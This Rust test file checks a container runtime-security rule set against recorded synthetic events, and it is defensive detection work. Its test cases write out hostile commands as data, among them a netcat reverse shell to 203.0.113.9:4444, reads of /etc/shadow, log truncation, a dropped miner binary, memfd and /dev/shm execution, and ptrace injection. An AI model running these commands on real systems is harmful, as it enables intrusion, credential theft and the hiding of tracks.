//! `rules/bulwark_rules.yaml`: every field a rule uses is one the plugin provides, and each
//! rule's condition, evaluated by a small evaluator (and, or, not, =, !=, <, <=, >, >=, in,
//! startswith, endswith, contains, icontains, pmatch, exists, parentheses, lists and macros
//! expanded), fires on recorded events it must catch and stays quiet on look-alikes.

#[path = "support/rules_eval.rs"]
mod rules_eval;

use bulwark_protocol::telemetry::{Enriched, Event, EventType, FdType, L4Proto, SocketFamily};
use rules_eval::*;

#[test]
fn every_field_used_is_provided_by_the_plugin() {
    let rules = load();
    let mut conds: Vec<String> = rules.macros.values().cloned().collect();
    conds.extend(rules.rules.iter().map(|r| r.1.clone()));
    for c in conds {
        let toks = tokenize(&c);
        for (k, t) in toks.iter().enumerate() {
            if let Tok::Word(w) = t {
                let next_is_op = matches!(toks.get(k + 1), Some(Tok::Op(_)))
                    || matches!(toks.get(k + 1), Some(Tok::Word(o)) if WORD_OPS.contains(&o.as_str()));
                if next_is_op {
                    assert!(known(w), "condition {c:?} uses {w}, which the plugin does not provide");
                } else if !["and", "or", "not"].contains(&w.as_str()) && !WORD_OPS.contains(&w.as_str()) {
                    let is_value =
                        k > 0 && !matches!(toks[k - 1], Tok::Word(ref p) if ["and", "or", "not"].contains(&p.as_str()));
                    assert!(is_value || rules.macros.contains_key(w), "{w:?} in {c:?} is neither a macro nor a field");
                }
            }
        }
    }
    for (name, _, output) in &rules.rules {
        for part in output.split('%').skip(1) {
            let f: String = part.chars().take_while(|c| c.is_ascii_alphanumeric() || "._[]".contains(*c)).collect();
            assert!(known(&f), "rule {name}: output uses %{f}, which the plugin does not provide");
        }
        for f in ["%k8s.pod.name", "%k8s.ns.name", "%container.name", "%container.id"] {
            assert!(output.contains(f), "rule {name}: output lacks {f}");
        }
    }
}

#[test]
fn an_unknown_field_would_be_caught() {
    assert!(!known("proc.sname"));
    assert!(!known("proc.name[1]"));
    assert!(known("proc.aname[3]"));
}

// Recorded events.

fn ev(ty: EventType, pid: u32, ppid: u32, f: impl FnOnce(&mut Event)) -> Enriched {
    let mut e = Event::new();
    e.type_ = ty.into();
    e.pid = pid;
    e.tid = pid;
    e.ppid = ppid;
    e.loginuid = u32::MAX;
    f(&mut e);
    let mut m = Enriched::new();
    m.event = Some(e).into();
    m.sandbox_id = "sb1".into();
    m.node_name = "node-1".into();
    m.pod_name = "web-0".into();
    m.pod_namespace = "tenant-a".into();
    m.container_id = "ctr1".into();
    m.container_name = "web".into();
    m.image = "docker.io/library/nginx:1.27".into();
    m
}

fn exec(pid: u32, ppid: u32, argv: &[&str], f: impl FnOnce(&mut Event)) -> Enriched {
    ev(EventType::EXECVE, pid, ppid, |e| {
        e.argv = argv.iter().map(|s| s.to_string()).collect();
        e.comm = argv[0].rsplit('/').next().unwrap().into();
        e.exe_path = if argv[0].starts_with('/') { argv[0].into() } else { format!("/usr/bin/{}", argv[0]) };
        e.cwd = "/".into();
        f(e)
    })
}

fn agent() -> Enriched {
    let mut m = exec(1, 0, &["/sbin/bulwark-agent"], |_| {});
    m.container_id.clear();
    m
}

fn host(mut m: Enriched) -> Enriched {
    m.container_id.clear();
    m
}

fn open(pid: u32, path: &str, flags: u64, comm: &str) -> Enriched {
    ev(EventType::OPENAT, pid, 1, |e| {
        e.comm = comm.into();
        e.path = path.into();
        e.flags = flags;
        e.fd_type = FdType::FILE.into();
        e.res = 5;
    })
}

const O_WRONLY: u64 = 1;
const O_TRUNC: u64 = 0o1000;
const O_CREAT: u64 = 0o100;

fn sock(e: &mut Event, remote: [u8; 4], port: u32) {
    e.fd_type = FdType::IPV4_SOCKET.into();
    let s = e.socket.mut_or_insert_default();
    s.family = SocketFamily::INET.into();
    s.proto = L4Proto::TCP.into();
    s.local_addr = vec![10, 0, 0, 5];
    s.local_port = 41000;
    s.remote_addr = remote.to_vec();
    s.remote_port = port;
}

#[test]
fn each_rule_fires_on_what_it_is_for_and_not_on_look_alikes() {
    let mut rules = load();
    let tty = |e: &mut Event| e.tty = 34816;
    type Case = (&'static str, Vec<Vec<Enriched>>, Vec<Vec<Enriched>>);
    let cases: Vec<Case> = vec![
        (
            "Terminal shell in container",
            vec![vec![agent(), exec(10, 1, &["/bin/bash"], tty)]],
            vec![
                vec![agent(), exec(10, 1, &["/bin/bash"], |_| {})],
                vec![agent(), exec(10, 1, &["/usr/bin/python3"], tty)],
                vec![agent(), exec(9, 1, &["/usr/bin/tmux"], |_| {}), exec(10, 9, &["/bin/bash"], tty)],
                vec![agent(), host(exec(10, 1, &["/bin/sh"], tty))],
            ],
        ),
        (
            "Read sensitive file untrusted",
            vec![vec![open(10, "/etc/shadow", 0, "cat")], vec![open(10, "/etc/pam.d/common-auth", 0, "python3")]],
            vec![
                vec![open(10, "/etc/shadow", 0, "sshd")],
                vec![open(10, "/etc/passwd", 0, "cat")],
                vec![ev(EventType::OPENAT, 10, 1, |e| {
                    e.comm = "cat".into();
                    e.path = "/etc/shadow".into();
                    e.fd_type = FdType::FILE.into();
                    e.res = -13;
                })],
            ],
        ),
        (
            "Write below binary dir",
            vec![vec![open(10, "/usr/bin/ls", O_WRONLY | O_CREAT, "curl")]],
            vec![
                vec![open(10, "/usr/bin/ls", O_WRONLY, "dpkg")],
                vec![open(10, "/usr/bin/ls", 0, "curl")],
                vec![open(10, "/usr/local/x/bin", O_WRONLY, "curl")],
            ],
        ),
        (
            "Clear Log Activities",
            vec![
                vec![open(10, "/var/log/auth.log", O_WRONLY | O_TRUNC, "sh")],
                vec![open(10, "/run/wtmp", O_WRONLY | O_TRUNC, "sh")],
            ],
            vec![
                vec![open(10, "/var/log/auth.log", O_WRONLY, "rsyslogd")],
                vec![open(10, "/tmp/app.log", O_WRONLY | O_TRUNC, "sh")],
            ],
        ),
        (
            "Delete or rename log file in container",
            vec![
                vec![ev(EventType::UNLINKAT, 10, 1, |e| {
                    e.comm = "rm".into();
                    e.path = "/var/log/app.log".into();
                })],
                vec![ev(EventType::RENAME, 10, 1, |e| {
                    e.comm = "mv".into();
                    e.path = "/var/log/wtmp".into();
                    e.path2 = "/tmp/w".into();
                })],
            ],
            vec![
                vec![ev(EventType::UNLINKAT, 10, 1, |e| {
                    e.comm = "rm".into();
                    e.path = "/tmp/app.log".into();
                })],
                vec![ev(EventType::UNLINK, 10, 1, |e| {
                    e.comm = "rm".into();
                    e.path = "/var/log/app.log".into();
                    e.res = -2;
                })],
                vec![host(ev(EventType::UNLINK, 10, 1, |e| {
                    e.comm = "rm".into();
                    e.path = "/var/log/app.log".into();
                }))],
            ],
        ),
        (
            "Launch Suspicious Network Tool in Container",
            vec![
                vec![exec(10, 1, &["nmap", "-sS", "10.0.0.0/24"], |_| {})],
                vec![exec(10, 1, &["/usr/bin/socat", "-"], |_| {})],
            ],
            vec![vec![exec(10, 1, &["curl", "http://x"], |_| {})], vec![host(exec(10, 1, &["nmap"], |_| {}))]],
        ),
        (
            "Drop and execute new binary in container",
            vec![vec![exec(10, 1, &["/tmp/xmrig"], |e| e.exe_on_upper_layer = true)]],
            vec![
                vec![exec(10, 1, &["/usr/bin/ls"], |_| {})],
                vec![exec(10, 1, &["/tmp/xmrig"], |e| {
                    e.exe_on_upper_layer = true;
                    e.res = -13;
                })],
            ],
        ),
        (
            "Container Drift Detected (chmod)",
            vec![vec![ev(EventType::FCHMODAT, 10, 1, |e| {
                e.comm = "chmod".into();
                e.path = "/tmp/payload".into();
                e.mode = 0o755;
            })]],
            vec![
                vec![ev(EventType::FCHMODAT, 10, 1, |e| {
                    e.comm = "chmod".into();
                    e.path = "/tmp/data".into();
                    e.mode = 0o644;
                })],
                vec![ev(EventType::CHMOD, 10, 1, |e| {
                    e.mode = 0o755;
                    e.res = -1;
                })],
            ],
        ),
        (
            "Execution from /dev/shm",
            vec![
                vec![exec(10, 1, &["/dev/shm/x"], |_| {})],
                vec![exec(10, 1, &["/bin/sh", "-c /dev/shm/run.sh"], |_| {})],
                vec![exec(10, 1, &["./run"], |e| {
                    e.cwd = "/dev/shm/w".into();
                    e.exe_path = "/dev/shm/w/run".into();
                })],
            ],
            vec![vec![exec(10, 1, &["/usr/bin/ls", "/dev/shm"], |_| {})]],
        ),
        (
            "Fileless execution via memfd_create",
            vec![vec![exec(10, 1, &["/proc/self/fd/3"], |e| e.exe_from_memfd = true)]],
            vec![vec![exec(10, 1, &["/usr/bin/ls"], |_| {})]],
        ),
        (
            "Linux Kernel Module Injection Detected",
            vec![vec![ev(EventType::FINIT_MODULE, 10, 1, |e| {
                e.comm = "insmod".into();
                e.cap_effective = 1 << 16;
            })]],
            vec![
                vec![ev(EventType::FINIT_MODULE, 10, 1, |e| e.comm = "insmod".into())],
                vec![host(ev(EventType::INIT_MODULE, 10, 1, |e| {
                    e.comm = "modprobe".into();
                    e.cap_effective = 1 << 16;
                }))],
            ],
        ),
        (
            "PTRACE attached to process",
            vec![
                vec![ev(EventType::PTRACE, 10, 1, |e| {
                    e.comm = "gdb".into();
                    e.ptrace_request = 16;
                })],
                vec![ev(EventType::PTRACE, 10, 1, |e| {
                    e.comm = "inject".into();
                    e.ptrace_request = 5;
                })],
            ],
            vec![vec![ev(EventType::PTRACE, 10, 1, |e| {
                e.comm = "strace".into();
                e.ptrace_request = 24;
            })]],
        ),
        (
            "Redirect STDOUT/STDIN to Network Connection in Container",
            vec![vec![ev(EventType::DUP2, 10, 1, |e| {
                e.comm = "bash".into();
                e.fd = 3;
                e.res = 0;
                sock(e, [203, 0, 113, 9], 4444);
            })]],
            vec![
                vec![ev(EventType::DUP2, 10, 1, |e| {
                    e.comm = "bash".into();
                    e.fd = 3;
                    e.res = 7;
                    sock(e, [203, 0, 113, 9], 4444);
                })],
                vec![ev(EventType::DUP2, 10, 1, |e| {
                    e.comm = "bash".into();
                    e.fd = 3;
                    e.res = 1;
                    e.fd_type = FdType::PIPE.into();
                })],
            ],
        ),
        (
            "Netcat Remote Code Execution in Container",
            vec![
                vec![exec(10, 1, &["nc", "-e", "/bin/sh", "203.0.113.9", "4444"], |_| {})],
                vec![exec(10, 1, &["ncat", "--sh-exec", "sh", "x"], |_| {})],
            ],
            vec![vec![exec(10, 1, &["nc", "-l", "8080"], |_| {})], vec![exec(10, 1, &["ncat", "x", "80"], |_| {})]],
        ),
    ];
    for (rule, must, must_not) in &cases {
        for (k, events) in must.iter().enumerate() {
            assert!(fires(&rules, rule, events), "{rule}: positive case {k} did not fire");
        }
        for (k, events) in must_not.iter().enumerate() {
            assert!(!fires(&rules, rule, events), "{rule}: negative case {k} fired");
        }
    }

    // Network Connection outside Local Subnet is quiet until its namespace list is filled.
    let rule = "Network Connection outside Local Subnet";
    let outside = vec![ev(EventType::CONNECT, 10, 1, |e| {
        e.comm = "curl".into();
        e.res = 0;
        sock(e, [203, 0, 113, 9], 443);
    })];
    let inside = vec![ev(EventType::CONNECT, 10, 1, |e| {
        e.comm = "curl".into();
        e.res = 0;
        sock(e, [10, 1, 2, 3], 443);
    })];
    let failed = vec![ev(EventType::CONNECT, 10, 1, |e| {
        e.comm = "curl".into();
        e.res = -111;
        sock(e, [203, 0, 113, 9], 443);
    })];
    assert!(!fires(&rules, rule, &outside), "quiet by default");
    rules.lists.insert("bulwark_namespace_scope_network_only_subnet".into(), vec!["tenant-a".into()]);
    assert!(fires(&rules, rule, &outside));
    assert!(!fires(&rules, rule, &inside));
    assert!(!fires(&rules, rule, &failed));

    let tested: Vec<&str> = cases.iter().map(|c| c.0).chain([rule]).collect();
    for (name, _, _) in &rules.rules {
        assert!(tested.contains(&name.as_str()), "rule {name} has no test case");
    }
}
